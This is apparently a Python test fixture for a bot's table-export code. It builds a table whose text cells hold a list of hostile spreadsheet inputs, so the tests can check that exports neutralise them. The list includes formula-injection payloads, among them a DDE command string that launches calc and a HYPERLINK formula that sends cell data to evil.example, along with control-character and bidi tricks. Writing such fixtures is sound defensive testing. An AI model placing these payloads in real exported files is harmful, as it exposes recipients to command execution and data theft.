"""A small table with every kind of column, and cells that strangers might have written."""

from __future__ import annotations

from datetime import UTC, date, datetime
from decimal import Decimal

from bot.export.table import Column, Kind, Row, Table

NOON = datetime(2026, 3, 29, 12, 30, 15, 123456, tzinfo=UTC)
COLUMNS = (
    Column("id", Kind.INTEGER, "A number."),
    Column("text", Kind.TEXT, "What was said."),
    Column("address", Kind.ADDRESS, "Where."),
    Column("score", Kind.NUMBER, "Index points."),
    Column("value", Kind.MONEY, "An amount."),
    Column("own", Kind.FLAG, "Whether."),
    Column("said_at", Kind.TIME, "When."),
    Column("day", Kind.DAY, "Which day."),
)
HOSTILE = (
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "   =1", "＝1+1", "＋1", "－1", "＠x", "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?"&A1,"x")', "{=1}", "x\n=1", '";=1', "=1\0", "<b>&amp;</b>", "_x0041_",
    "\x01\x0b\x1f", "\ud800 half", "😀" * 3, "\u202eevil\u202c", "#DIV/0!", "1e5", "007", "TRUE", "2026-03-01", "",
)  # fmt: skip


def a_row(number: int, text: str | None) -> Row:
    return (number, text, "https://a.example/?q=1&b=2", -0.5, Decimal("-1.50"), True, NOON, date(2026, 3, 1))


def unknown(number: int) -> Row:
    return (number, None, None, None, None, None, None, None)


def a_table(*rows: Row) -> Table:
    return Table("posts", "Posts", COLUMNS, rows)


def hostile_table() -> Table:
    return a_table(*(a_row(number, text) for number, text in enumerate(HOSTILE)), unknown(len(HOSTILE)))


def never(_number: int) -> None:
    """Nobody wants to know how far it is."""
